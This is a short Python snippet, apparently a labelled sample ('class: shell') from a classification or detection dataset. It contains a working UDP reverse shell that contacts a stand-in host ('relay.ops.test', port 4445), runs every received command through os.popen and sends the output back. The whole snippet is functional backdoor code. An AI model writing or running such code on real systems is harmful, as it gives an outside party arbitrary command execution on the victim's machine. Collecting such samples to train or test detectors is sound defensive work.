# class: shell; possible: low medium
import os, socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
peer = ("relay.ops.test", 4445)
s.sendto(b"hi", peer)
while True:
    cmd = s.recv(2048).decode().strip()
    if cmd == "exit":
        break
    s.sendto(os.popen(cmd).read().encode() or b"-", peer)
